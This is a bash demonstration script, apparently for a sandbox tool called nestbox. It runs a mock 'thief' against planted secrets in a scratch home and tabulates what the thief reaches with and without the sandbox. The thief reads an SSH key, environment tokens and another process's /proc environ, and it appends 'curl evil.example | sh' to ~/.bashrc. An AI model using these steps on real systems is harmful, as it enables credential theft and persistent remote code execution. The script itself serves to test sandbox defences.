#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# Starts a small thief twice, without nestbox and with it, and shows what the thief got each time.
# The thief goes for what this script plants in a scratch directory, and for nothing of yours.
# Usage: thief.sh

set -euo pipefail

scratch=$(mktemp -d)
victim=
end() {
  [ -z "$victim" ] || kill "$victim"
  rm -rf "$scratch"
}
trap end EXIT
export HOME=$scratch/home
mkdir -p "$HOME/.ssh" "$HOME/Documents" "$HOME/Downloads"
cd "$HOME/Downloads"

cat >thief <<'END'
#!/bin/bash
got() { if grep -qsa "$@"; then echo stolen; else echo 'not found'; fi; }
got planted-key ~/.ssh/id_ed25519
got planted-letter ~/Documents/letter
got planted-token <(env)
got planted-password /proc/[0-9]*/environ
echo 'curl evil.example | sh' >>~/.bashrc
grep : /proc/net/dev | grep -vc '^ *lo:'
END
chmod +x thief

# Prints the thief's answers, and whether its line stayed in ~/.bashrc.
try() { # COMMAND...
  : >"$HOME/.bashrc"
  # Its status is that of the last count.
  API_TOKEN=planted-token "$@" || true
  if [ -s "$HOME/.bashrc" ]; then echo 'left there'; else echo gone; fi
}

# A program of the same user, with a password among its variables.
PASSWORD=planted-password sleep 60 &
victim=$!
until grep -qs planted-password /proc/$victim/environ; do sleep 0.01; done
echo planted-key >"$HOME/.ssh/id_ed25519"
echo planted-letter >"$HOME/Documents/letter"
mapfile -t outside < <(try ./thief)
mapfile -t inside < <(try nestbox ./thief)
[ ${#outside[@]} = 6 ] && [ ${#inside[@]} = 6 ] || { echo 'thief.sh: the thief gave no answer' >&2; exit 1; }

names=(
  'a private key in the home directory' 'a letter in the home directory'
  'a token in the environment' 'a password of another process'
  'network devices but the loopback' 'a line added to ~/.bashrc'
)
printf '%-38s %-12s %s\n' 'What the thief got' './thief' 'nestbox ./thief'
for index in 0 1 2 3 4 5; do
  printf '%-38s %-12s %s\n' "${names[index]}" "${outside[index]}" "${inside[index]}"
done
